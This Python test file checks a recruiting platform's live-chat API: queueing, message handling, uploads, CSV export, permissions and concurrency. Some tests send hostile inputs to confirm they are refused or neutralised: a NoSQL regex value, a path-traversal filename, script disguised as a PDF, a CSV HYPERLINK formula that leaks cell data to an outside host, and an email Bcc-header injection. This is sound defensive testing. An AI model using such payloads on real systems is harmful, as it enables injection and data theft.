"""QuickChat through the public JSON API, as a widget and an integration drive it: entry checks, queue, take, lines, notes, end, CSV."""

from __future__ import annotations

import asyncio
import csv
import io
import os
from typing import Any

import httpx
from sqlalchemy import func, select
from sqlalchemy.ext.asyncio import AsyncEngine

from scheduling.db import create_sessionmaker
from scheduling.livechat.models import Agent, LiveChat
from scheduling.models import OutboxMessage
from tests.web.conftest import FakeClock, token
from tests.web.test_api_flow import setup_event

JOB = {
    "title": "Backend Engineer", "company": "Acme", "location": "Berlin", "description": "Python and PostgreSQL.",
    "apply_url": "https://acme.example/apply", "allowed_origins": ["https://jobs.acme.example"],
    "custom_fields": [{"id": "inquiry", "label": "Nature of inquiry", "required": True}],
    "questions": [
        {"text": "Are you allowed to work in the EU?", "kind": "yes_no", "qualifying": ["Yes"]},
        {"text": "Years of Python?", "kind": "choice", "choices": ["0-1", "2-4", "5+"], "qualifying": ["2-4", "5+"]},
    ],
}


async def _job(client: httpx.AsyncClient, engine: AsyncEngine, clock: FakeClock, **extra: Any) -> dict[str, Any]:
    w = await setup_event(client, engine, clock.now)
    r = await client.post("/api/v1/job-reqs", headers=w["rec"], json={**JOB, "event_id": w["event_id"], **extra})
    assert r.status_code == 201, r.text
    job = r.json()
    r = await client.post(f"/api/v1/job-reqs/{job['id']}/assignees", headers=w["rec"], json={"user_id": w["ids"]["rec@example.test"]})
    assert r.status_code == 201, r.text
    return {**w, "job": job, "q": [q["id"] for q in job["questions"]]}


def _candidate(w: dict[str, Any], name: str = "Cara", answers: tuple[str, str] = ("Yes", "5+"), **extra: Any) -> dict[str, Any]:
    q1, q2 = w["q"]
    return {"name": name, "email": f"{name.lower()}@mail.example", "fields": {"inquiry": "The backend role"},
            "answers": {str(q1): answers[0], str(q2): answers[1]}, **extra}


async def _available(client: httpx.AsyncClient, headers: dict[str, str], on: bool = True, capacity: int = 2) -> None:
    r = await client.put("/api/v1/live-agent", headers=headers, json={"available": on, "capacity": capacity})
    assert r.status_code == 200, r.text


async def _count(engine: AsyncEngine, status: str) -> int:
    async with create_sessionmaker(engine)() as s:
        return int((await s.execute(select(func.count()).select_from(LiveChat).where(LiveChat.status == status))).scalar_one())


async def test_knockout_answers_decide_before_the_queue(client: httpx.AsyncClient, engine: AsyncEngine, clock: FakeClock) -> None:
    w = await _job(client, engine, clock)
    await _available(client, w["rec"])
    url = f"/api/v1/job-reqs/{w['job']['id']}/chats"

    r = await client.post(url, json=_candidate(w, answers=("No", "5+")))
    assert r.status_code == 201, r.text
    assert r.json()["status"] == "rejected" and r.json()["token"] is None and "right match" in r.json()["message"]

    missing = _candidate(w)
    del missing["answers"][str(w["q"][1])]
    r = await client.post(url, json=missing)
    assert r.status_code == 422 and r.json()["error"]["code"] == "missing_answer"
    r = await client.post(url, json=_candidate(w, answers=("Yes", "10+")))
    assert r.status_code == 422 and r.json()["error"]["code"] == "invalid_answer"
    for hostile in ({"name": {"$regex": ".*"}}, {"answers": {str(w["q"][0]): ["Yes"]}}, {"email": ["a@b.c"]}, {"fields": {"inquiry": {"x": 1}}}):
        r = await client.post(url, json={**_candidate(w), **hostile})
        assert r.status_code == 422, (hostile, r.text)
    r = await client.post(url, json={k: v for k, v in _candidate(w).items() if k != "fields"})
    assert r.status_code == 422 and "Nature of inquiry" in r.json()["error"]["message"]
    assert await _count(engine, "waiting") == 0

    r = await client.post(url, json=_candidate(w))
    assert r.status_code == 201 and r.json()["status"] == "waiting" and r.json()["position"] == 1
    assert r.json()["estimated_wait"]["low_seconds"] > 0
    chat_id, tok = r.json()["chat_id"], r.json()["token"]
    assert len(tok) >= 40
    r = await client.get(f"/api/v1/chats/{chat_id}/messages", headers={"Authorization": f"Bearer {tok}"})
    texts = [m["body"]["text"] for m in r.json()["messages"]]
    assert "Are you allowed to work in the EU?" in texts and "5+" in texts  # the bot's exchange is the transcript's start
    bots = [m for m in r.json()["messages"] if m["kind"] == "bot"]
    assert bots and all(m["author"] is None for m in bots)


async def test_queue_take_lines_and_end(client: httpx.AsyncClient, engine: AsyncEngine, clock: FakeClock) -> None:
    w = await _job(client, engine, clock)
    url = f"/api/v1/job-reqs/{w['job']['id']}/chats"
    r = await client.get(f"/api/v1/job-reqs/{w['job']['id']}/chat-config")
    assert r.json()["state"] == "away"  # nobody online yet: a note can be left
    await _available(client, w["rec"], capacity=1)
    assert (await client.get(f"/api/v1/job-reqs/{w['job']['id']}/chat-config")).json()["state"] == "open"

    first = (await client.post(url, json=_candidate(w, "Ann"))).json()
    second = (await client.post(url, json=_candidate(w, "Ben"))).json()
    assert (first["position"], second["position"]) == (1, 2)
    ann = {"Authorization": f"Bearer {first['token']}"}
    ben = {"Authorization": f"Bearer {second['token']}"}

    # Tokens are bound to their chat; wrong and foreign tokens are both not-found.
    assert (await client.get(f"/api/v1/chats/{second['chat_id']}", headers=ann)).status_code == 404
    assert (await client.get(f"/api/v1/chats/{first['chat_id']}", headers={"Authorization": "Bearer " + "x" * 43})).status_code == 404
    assert (await client.get(f"/api/v1/chats/{first['chat_id']}")).status_code == 401

    r = await client.get("/api/v1/live-chats?status=waiting", headers=w["rec"])
    assert [c["candidate"]["name"] for c in r.json()] == ["Ann", "Ben"]
    r = await client.post("/api/v1/live-chats/take-next", headers=w["rec"])
    assert r.status_code == 200 and r.json()["id"] == first["chat_id"]
    r = await client.post(f"/api/v1/live-chats/{second['chat_id']}/take", headers=w["rec"])
    assert r.status_code == 409 and r.json()["error"]["code"] == "at_capacity"  # capacity 1
    r = await client.get(f"/api/v1/chats/{second['chat_id']}", headers=ben)
    assert r.json()["status"] == "waiting" and r.json()["position"] == 1  # moved up, never down

    r = await client.get(f"/api/v1/chats/{first['chat_id']}", headers=ann)
    assert r.json()["status"] == "active" and r.json()["recruiter"]["name"] == "Rec"
    r = await client.post(f"/api/v1/chats/{first['chat_id']}/messages", headers=ann, json={"client_id": "a1", "text": "Hi! <b>{{7*7}}</b>"})
    assert r.status_code == 201
    again = await client.post(f"/api/v1/chats/{first['chat_id']}/messages", headers=ann, json={"client_id": "a1", "text": "Hi! <b>{{7*7}}</b>"})
    assert again.status_code == 200 and again.json() == {"seq": r.json()["seq"], "created": False}
    r = await client.post(f"/api/v1/live-chats/{first['chat_id']}/messages", headers=w["rec"], json={"client_id": "r1", "text": "Hello Ann"})
    assert r.status_code == 201
    r = await client.get(f"/api/v1/live-chats/{first['chat_id']}/messages?after=0", headers=w["rec"])
    lines = [(m["kind"], m["body"]["text"]) for m in r.json()["messages"]]
    assert ("message", "Hi! <b>{{7*7}}</b>") in lines and ("message", "Hello Ann") in lines and ("notice", "Rec joined the chat") in lines
    assert sum(1 for _, t in lines if t == "Hi! <b>{{7*7}}</b>") == 1

    r = await client.post(f"/api/v1/live-chats/{first['chat_id']}/end", headers=w["rec"], json={"next_step": "Lunch", "outcome": "finished"})
    assert r.status_code == 422 and r.json()["error"]["code"] == "invalid_next_step"
    r = await client.post(f"/api/v1/live-chats/{first['chat_id']}/end", headers=w["rec"], json={"next_step": "Interview", "outcome": "finished"})
    assert r.status_code == 200 and r.json()["status"] == "ended"
    r = await client.get(f"/api/v1/chats/{first['chat_id']}", headers=ann)
    assert r.json()["status"] == "ended" and r.json()["apply_url"] == "https://acme.example/apply"
    r = await client.post(f"/api/v1/chats/{first['chat_id']}/messages", headers=ann, json={"client_id": "a2", "text": "still there?"})
    assert r.status_code == 409
    # The seat came free: Ben can now be taken.
    assert (await client.post(f"/api/v1/live-chats/{second['chat_id']}/take", headers=w["rec"])).status_code == 200


async def test_many_recruiters_racing_for_one_chat(client: httpx.AsyncClient, engine: AsyncEngine, clock: FakeClock) -> None:
    w = await _job(client, engine, clock)
    event_id = w["event_id"]
    heads = [w["rec"]]
    for n in range(4):
        email = f"r{n}@example.test"
        r = await client.post(f"/api/v1/events/{event_id}/participants", headers=w["admin"], json={
            "email": email, "name": f"R{n}", "role": "recruiter", "company_id": w["company_id"], "password": "correct horse battery"})
        assert r.status_code == 201
        h = await token(client, email)
        r = await client.post(f"/api/v1/job-reqs/{w['job']['id']}/assignees", headers=h, json={"user_id": r.json()["user_id"]})  # claim
        assert r.status_code == 201, r.text
        heads.append(h)
    for h in heads:
        await _available(client, h)
    chat = (await client.post(f"/api/v1/job-reqs/{w['job']['id']}/chats", json=_candidate(w))).json()
    results = await asyncio.gather(*(client.post(f"/api/v1/live-chats/{chat['chat_id']}/take", headers=h) for h in heads))
    codes = sorted(r.status_code for r in results)
    assert codes == [200, 409, 409, 409, 409], [r.text for r in results]
    async with create_sessionmaker(engine)() as s:
        seats = (await s.execute(select(func.sum(Agent.active_chats)))).scalar_one()
    assert seats == 1


async def test_away_note_reply_and_continue(client: httpx.AsyncClient, engine: AsyncEngine, clock: FakeClock) -> None:
    w = await _job(client, engine, clock, phone_field="optional")
    r = await client.post(f"/api/v1/job-reqs/{w['job']['id']}/chats", json=_candidate(w, phone="+49 30 1234567", sms_consent=True))
    assert r.status_code == 201 and r.json()["status"] == "away"
    chat_id, cand = r.json()["chat_id"], {"Authorization": f"Bearer {r.json()['token']}"}
    r = await client.post(f"/api/v1/chats/{chat_id}/messages", headers=cand, json={"client_id": "x", "text": "hello?"})
    assert r.status_code == 409  # away: leave a note instead
    r = await client.post(f"/api/v1/chats/{chat_id}/note", headers=cand, json={"text": "Please tell me about the team."})
    assert r.status_code == 201 and r.json()["status"] == "note"

    r = await client.post(f"/api/v1/live-chats/{chat_id}/messages", headers=w["rec"], json={"client_id": "r1", "text": "Happy to! It's 6 people."})
    assert r.status_code == 201, r.text
    async with create_sessionmaker(engine)() as s:
        sent = (await s.execute(select(OutboxMessage).where(OutboxMessage.kind.in_(("live_reply", "live_reply_sms"))))).scalars().all()
    mail = next(m for m in sent if m.channel == "email")
    text = next(m for m in sent if m.channel == "sms")
    assert mail.to_email == "cara@mail.example" and "6 people" in mail.body_text
    assert text.to_phone == "+49301234567" and "/live/continue/" in text.body_text
    link = mail.body_text.split("/live/continue/")[1].split()[0]

    r = await client.post("/api/v1/chats/continue", json={"link": link})
    assert r.status_code == 201 and r.json()["chat_id"] == chat_id
    other_device = {"Authorization": f"Bearer {r.json()['token']}"}
    r = await client.get(f"/api/v1/chats/{chat_id}/messages", headers=other_device)
    assert any(m["body"]["text"] == "Happy to! It's 6 people." for m in r.json()["messages"])
    r = await client.post(f"/api/v1/chats/{chat_id}/messages", headers=other_device, json={"client_id": "c1", "text": "Great, thanks"})
    assert r.status_code == 201
    r = await client.post("/api/v1/chats/continue", json={"link": link[:-2] + "xx"})
    assert r.status_code == 410


async def test_resume_is_checked_by_content_and_only_staff_download_it(client: httpx.AsyncClient, engine: AsyncEngine, clock: FakeClock,
                                                                       tmp_path: Any) -> None:
    w = await _job(client, engine, clock)
    await _available(client, w["rec"])
    start = (await client.post(f"/api/v1/job-reqs/{w['job']['id']}/chats", json=_candidate(w))).json()
    chat_id, cand = start["chat_id"], {"Authorization": f"Bearer {start['token']}"}
    fake = {"file": ("cv.pdf", b"<html><script>alert(1)</script></html>", "application/pdf")}
    r = await client.post(f"/api/v1/chats/{chat_id}/resume", headers=cand, files=fake)
    assert r.status_code == 415
    pdf = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
    r = await client.post(f"/api/v1/chats/{chat_id}/resume", headers=cand, files={"file": ('../../"evil"<x>.exe', pdf, "text/html")})
    assert r.status_code == 201 and r.json()["name"].endswith(".pdf") and "/" not in r.json()["name"] and '"' not in r.json()["name"]
    r = await client.post(f"/api/v1/chats/{chat_id}/resume", headers=cand, files={"file": ("big.pdf", b"%PDF-" + b"0" * (5 * 1024 * 1024), "application/pdf")})
    assert r.status_code == 413

    assert (await client.get(f"/api/v1/live-chats/{chat_id}/resume", headers=w["tal"])).status_code == 404  # not staff of this chat
    await client.post(f"/api/v1/live-chats/{chat_id}/take", headers=w["rec"])
    r = await client.get(f"/api/v1/live-chats/{chat_id}/resume", headers=w["rec"])
    assert r.status_code == 200 and r.content == pdf
    assert r.headers["content-disposition"].startswith("attachment") and r.headers["x-content-type-options"] == "nosniff"


async def test_csv_export_neutralizes_formulas(client: httpx.AsyncClient, engine: AsyncEngine, clock: FakeClock) -> None:
    w = await _job(client, engine, clock)
    await _available(client, w["rec"])
    start = (await client.post(f"/api/v1/job-reqs/{w['job']['id']}/chats", json=_candidate(w, name='=HYPERLINK("http://x/?"&A1,"x")'))).json()
    chat_id = start["chat_id"]
    await client.post(f"/api/v1/live-chats/{chat_id}/take", headers=w["rec"])
    await client.post(f"/api/v1/chats/{chat_id}/messages", headers={"Authorization": f"Bearer {start['token']}"},
                      json={"client_id": "1", "text": "+1+1"})
    await client.patch(f"/api/v1/live-chats/{chat_id}", headers=w["rec"], json={"private_notes": "@SUM(1)\nstrong"})
    await client.post(f"/api/v1/live-chats/{chat_id}/end", headers=w["rec"], json={"next_step": "Screen", "outcome": "follow_up"})
    r = await client.get("/api/v1/live-chats/export.csv", headers=w["rec"])
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(r.text)))
    assert rows[0][0] == "Chat" and len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Candidate"].startswith("'=HYPERLINK") and row["Notes"].startswith("'@SUM") and row["Next step"] == "Screen"
    assert "+1+1" in row["Transcript"]
    for cell in rows[1]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    # Someone else's export doesn't hold this chat.
    other = await client.get("/api/v1/live-chats/export.csv", headers=w["admin"])
    assert len(list(csv.reader(io.StringIO(other.text)))) == 1


async def test_who_may_claim_and_assign(client: httpx.AsyncClient, engine: AsyncEngine, clock: FakeClock) -> None:
    w = await _job(client, engine, clock)
    tal_id, rec_id = w["ids"]["tal@example.test"], w["ids"]["rec@example.test"]
    r = await client.post(f"/api/v1/job-reqs/{w['job']['id']}/assignees", headers=w["tal"], json={"user_id": tal_id})
    assert r.status_code == 404  # talents neither claim nor see job reqs
    r = await client.post(f"/api/v1/job-reqs/{w['job']['id']}/assignees", headers=w["rec"], json={"user_id": tal_id})
    assert r.status_code == 422 and r.json()["error"]["code"] == "not_staff"
    r = await client.post("/api/v1/job-reqs", headers=w["admin"], json=JOB)  # no event: only its managers assign
    assert r.status_code == 201
    r = await client.post(f"/api/v1/job-reqs/{r.json()['id']}/assignees", headers=w["rec"], json={"user_id": rec_id})
    assert r.status_code == 404
    assert (await client.get(f"/api/v1/job-reqs/{w['job']['id']}", headers=w["tal"])).status_code == 404
    r = await client.put(f"/api/v1/job-reqs/{w['job']['id']}", headers=w["tal"], json=JOB)
    assert r.status_code == 404


async def test_booth_and_support_chats_at_a_live_event(client: httpx.AsyncClient, engine: AsyncEngine, clock: FakeClock) -> None:
    import datetime as dt

    w = await setup_event(client, engine, clock.now)
    ev, company = w["event_id"], w["company_id"]
    r = await client.post(f"/api/v1/events/{ev}/live-chats", headers=w["tal"], json={"company_id": company})
    assert r.status_code == 409 and r.json()["error"]["code"] == "event_not_live"  # the event starts tomorrow
    clock.now = dt.datetime(2026, 3, 21, 9, 0, tzinfo=dt.UTC)
    await _available(client, w["rec"])
    r = await client.post(f"/api/v1/events/{ev}/live-chats", headers=w["tal"], json={"company_id": company})
    assert r.status_code == 201 and r.json()["status"] == "waiting" and r.json()["position"] == 1
    booth = r.json()
    again = await client.post(f"/api/v1/events/{ev}/live-chats", headers=w["tal"], json={"company_id": company})
    assert again.status_code == 201 and again.json()["chat_id"] == booth["chat_id"]  # one open chat per person and booth
    r = await client.post(f"/api/v1/events/{ev}/live-chats", headers=w["rec"], json={"company_id": company})
    assert r.status_code == 403  # booths are for talents
    r = await client.post(f"/api/v1/events/{ev}/live-chats", headers=w["tal"], json={"company_id": 999})
    assert r.status_code == 404

    waiting = (await client.get("/api/v1/live-chats?status=waiting", headers=w["rec"])).json()
    assert [c["id"] for c in waiting] == [booth["chat_id"]] and waiting[0]["kind"] == "booth"
    r = await client.post("/api/v1/live-chats/take-next", headers=w["rec"])
    assert r.status_code == 200 and r.json()["candidate"]["name"] == "Tal"

    # Support: any member of the event reaches the organizers' queue (the admin organizes this event).
    r = await client.post(f"/api/v1/events/{ev}/live-chats", headers=w["rec"], json={})
    assert r.status_code == 201 and r.json()["status"] == "away"  # no organizer is available yet
    await _available(client, w["admin"])
    r = await client.post(f"/api/v1/events/{ev}/live-chats", headers=w["tal2"], json={})
    assert r.status_code == 201 and r.json()["status"] == "waiting"
    r = await client.get("/api/v1/live-chats?status=waiting", headers=w["admin"])
    assert [c["kind"] for c in r.json()] == ["support"]
    assert (await client.get("/api/v1/live-chats?status=waiting", headers=w["rec"])).json() == []  # not the recruiters' queue


async def test_concurrent_starts_get_positions_that_never_rise(client: httpx.AsyncClient, engine: AsyncEngine, clock: FakeClock) -> None:
    w = await _job(client, engine, clock)
    await _available(client, w["rec"])
    url = f"/api/v1/job-reqs/{w['job']['id']}/chats"
    starts = await asyncio.gather(*(client.post(url, json=_candidate(w, f"P{n}")) for n in range(10)))  # 10: the per-address limit
    assert all(r.status_code == 201 for r in starts), [r.text for r in starts]
    first = {r.json()["chat_id"]: (r.json()["position"], r.json()["token"]) for r in starts}
    later = {}
    for chat_id, (_, tok) in first.items():
        later[chat_id] = (await client.get(f"/api/v1/chats/{chat_id}", headers={"Authorization": f"Bearer {tok}"})).json()["position"]
    assert sorted(later.values()) == list(range(1, 11))
    assert all(later[c] <= first[c][0] for c in first), (first, later)


async def test_ends_with_automatic_assignment_never_deadlock_or_overfill(client: httpx.AsyncClient, engine: AsyncEngine, clock: FakeClock) -> None:
    w = await _job(client, engine, clock)
    heads = [w["rec"]]
    for n in range(3):
        email = f"auto{n}@example.test"
        r = await client.post(f"/api/v1/events/{w['event_id']}/participants", headers=w["admin"], json={
            "email": email, "name": f"A{n}", "role": "recruiter", "company_id": w["company_id"], "password": "correct horse battery"})
        h = await token(client, email)
        assert (await client.post(f"/api/v1/job-reqs/{w['job']['id']}/assignees", headers=h, json={"user_id": r.json()["user_id"]})).status_code == 201
        heads.append(h)
    for h in heads:
        r = await client.put("/api/v1/live-agent", headers=h, json={"available": True, "capacity": 1, "auto_assign": True})
        assert r.status_code == 200
    url = f"/api/v1/job-reqs/{w['job']['id']}/chats"
    for n in range(10):
        assert (await client.post(url, json=_candidate(w, f"Q{n}"))).status_code == 201

    async def settled(active: int) -> None:
        for _ in range(100):
            async with create_sessionmaker(engine)() as s:
                n = (await s.execute(select(func.count()).select_from(LiveChat).where(LiveChat.status == "active"))).scalar_one()
            if n == active:
                return
            await asyncio.sleep(0.05)
        raise AssertionError(f"{n} active chats, expected {active}")

    await settled(4)  # every seat filled right after the chats queued
    for expect_active in (4, 2):  # everyone ends their chat at once, twice: each freed seat is refilled while anyone waits
        mine = [(await client.get("/api/v1/live-chats?status=active", headers=h)).json() for h in heads]
        ends = await asyncio.gather(*(client.post(f"/api/v1/live-chats/{m[0]['id']}/end", headers=h, json={"next_step": "Screen", "outcome": "finished"})
                                      for h, m in zip(heads, mine, strict=True)))
        assert [r.status_code for r in ends] == [200] * 4, [r.text for r in ends]
        await settled(expect_active)
    async with create_sessionmaker(engine)() as s:
        assert (await s.execute(select(func.count()).select_from(Agent).where(Agent.active_chats > Agent.capacity))).scalar_one() == 0
        assert (await s.execute(select(func.count()).select_from(LiveChat).where(LiveChat.status == "waiting"))).scalar_one() == 0
        per = (await s.execute(select(LiveChat.recruiter_id, func.count()).where(LiveChat.status == "active").group_by(LiveChat.recruiter_id))).all()
        assert len(per) == 2 and all(n == 1 for _, n in per)


async def test_a_double_click_makes_one_chat(client: httpx.AsyncClient, engine: AsyncEngine, clock: FakeClock) -> None:
    w = await _job(client, engine, clock)
    await _available(client, w["rec"])
    body = _candidate(w, start_key="dbl-click-7f3a9c2e")
    first, second = await asyncio.gather(*(client.post(f"/api/v1/job-reqs/{w['job']['id']}/chats", json=body) for _ in range(2)))
    assert sorted((first.status_code, second.status_code)) == [201, 409]
    loser = second if second.status_code == 409 else first
    assert loser.json()["error"]["code"] == "already_started" and "token" not in loser.text
    assert await _count(engine, "waiting") == 1


async def test_organizers_set_the_next_steps(client: httpx.AsyncClient, engine: AsyncEngine, clock: FakeClock) -> None:
    w = await _job(client, engine, clock)
    url = f"/api/v1/events/{w['event_id']}/live-next-steps"
    assert (await client.get(url, headers=w["rec"])).json()["next_steps"] == ["Interview", "Screen", "Pipeline", "Not a fit"]
    r = await client.put(url, headers=w["rec"], json={"next_steps": ["Hire"]})
    assert r.status_code == 403
    r = await client.put(url, headers=w["admin"], json={"next_steps": ["Phone screen", "phone screen"]})
    assert r.status_code == 422
    r = await client.put(url, headers=w["admin"], json={"next_steps": ["Phone screen", "Onsite", "  ", "Talent pool"]})
    assert r.status_code == 200 and r.json()["next_steps"] == ["Phone screen", "Onsite", "Talent pool"]
    await _available(client, w["rec"])
    chat = (await client.post(f"/api/v1/job-reqs/{w['job']['id']}/chats", json=_candidate(w))).json()
    detail = (await client.post(f"/api/v1/live-chats/{chat['chat_id']}/take", headers=w["rec"])).json()
    assert detail["next_steps"] == ["Phone screen", "Onsite", "Talent pool"]
    r = await client.post(f"/api/v1/live-chats/{chat['chat_id']}/end", headers=w["rec"], json={"next_step": "Interview", "outcome": "finished"})
    assert r.status_code == 422
    r = await client.post(f"/api/v1/live-chats/{chat['chat_id']}/end", headers=w["rec"], json={"next_step": "Onsite", "outcome": "finished"})
    assert r.status_code == 200 and r.json()["next_step"] == "Onsite"


async def test_review_findings_stay_fixed(client: httpx.AsyncClient, engine: AsyncEngine, clock: FakeClock) -> None:
    """A security review's findings: claims across companies, time zones that are folders, line separators in names."""
    w = await _job(client, engine, clock, hours={"tz": "Europe/Berlin", "days": {"0": [["09:00", "17:00"]]}})
    r = await client.post(f"/api/v1/events/{w['event_id']}/companies", headers=w["admin"], json={"name": "Globex"})
    globex = r.json()["id"]
    r = await client.post(f"/api/v1/events/{w['event_id']}/participants", headers=w["admin"], json={
        "email": "gx@example.test", "name": "Gus", "role": "recruiter", "company_id": globex, "password": "correct horse battery"})
    gus = await token(client, "gx@example.test")
    r = await client.post(f"/api/v1/job-reqs/{w['job']['id']}/assignees", headers=gus, json={"user_id": r.json()["user_id"]})
    assert r.status_code == 404  # Acme's job req: a Globex recruiter at the same event can't claim it
    assert (await client.get(f"/api/v1/job-reqs/{w['job']['id']}", headers=gus)).status_code == 404

    r = await client.get(f"/api/v1/job-reqs/{w['job']['id']}/chat-config?tz=Europe")
    assert r.status_code == 200 and r.json()["hours"]
    r = await client.post(f"/api/v1/job-reqs/{w['job']['id']}/chats", json={**_candidate(w), "name": "Eve\u2028Bcc: x@evil.example"})
    assert r.status_code == 422


async def test_follow_up_mail_is_capped_per_chat(client: httpx.AsyncClient, engine: AsyncEngine, clock: FakeClock) -> None:
    """Follow-ups send mail from the platform: a handful per chat a day, whatever the address is changed to."""
    w = await _job(client, engine, clock)
    await _available(client, w["rec"])
    chat = (await client.post(f"/api/v1/job-reqs/{w['job']['id']}/chats", json=_candidate(w))).json()
    await client.post(f"/api/v1/live-chats/{chat['chat_id']}/take", headers=w["rec"])
    codes = []
    for n in range(7):
        await client.patch(f"/api/v1/live-chats/{chat['chat_id']}", headers=w["rec"], json={"email": f"target{n}@victim.example"})
        r = await client.post(f"/api/v1/live-chats/{chat['chat_id']}/follow-up/email", headers=w["rec"],
                              json={"subject": "Hello", "body": "Thanks for the chat.", "copy_me": False})
        codes.append(r.status_code)
    assert codes == [201] * 5 + [429] * 2


def _listing(folder: Any) -> set[str]:
    return set(os.listdir(folder)) if os.path.isdir(folder) else set()


def _content(path: Any) -> bytes | None:
    try:
        with open(path, "rb") as f:
            return f.read()
    except FileNotFoundError:
        return None


async def test_a_new_resume_replaces_the_old_file_only_once_committed(client: httpx.AsyncClient, engine: AsyncEngine, clock: FakeClock) -> None:
    """A wrong chat token is refused before the body is read; a refused file leaves nothing on disk; a replacement
    removes the old file (after the commit), so the row always names a file that exists."""
    from pathlib import Path

    from scheduling.livechat.models import LiveChat
    from web.settings import Settings

    w = await _job(client, engine, clock)
    await _available(client, w["rec"])
    start = (await client.post(f"/api/v1/job-reqs/{w['job']['id']}/chats", json=_candidate(w))).json()
    chat_id, cand = start["chat_id"], {"Authorization": f"Bearer {start['token']}"}
    folder = Path(Settings(database_url="", secret_key="x").upload_dir)
    before = _listing(folder)
    pdf = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
    stranger = {"Authorization": "Bearer " + "x" * 43}
    r = await client.post(f"/api/v1/chats/{chat_id}/resume", headers=stranger, files={"file": ("cv.pdf", pdf, "application/pdf")})
    assert r.status_code == 404
    r = await client.post(f"/api/v1/chats/{chat_id}/resume", headers=cand, files={"file": ("cv.pdf", b"MZ\x90\x00 not a pdf", "application/pdf")})
    assert r.status_code == 415
    assert _listing(folder) == before  # nothing written for either refusal

    async def stored() -> str:
        async with create_sessionmaker(engine)() as s:
            chat = await s.get(LiveChat, chat_id)
            assert chat is not None
            return chat.resume_file

    assert (await client.post(f"/api/v1/chats/{chat_id}/resume", headers=cand, files={"file": ("one.pdf", pdf, "application/pdf")})).status_code == 201
    first = await stored()
    assert _content(folder / first) == pdf
    assert (await client.post(f"/api/v1/chats/{chat_id}/resume", headers=cand, files={"file": ("two.pdf", pdf + b"%2", "application/pdf")})).status_code == 201
    second = await stored()
    for _ in range(50):  # the old file goes after the commit, beside the response
        if _content(folder / first) is None:
            break
        await asyncio.sleep(0.02)
    assert _content(folder / first) is None and _content(folder / second) == pdf + b"%2"
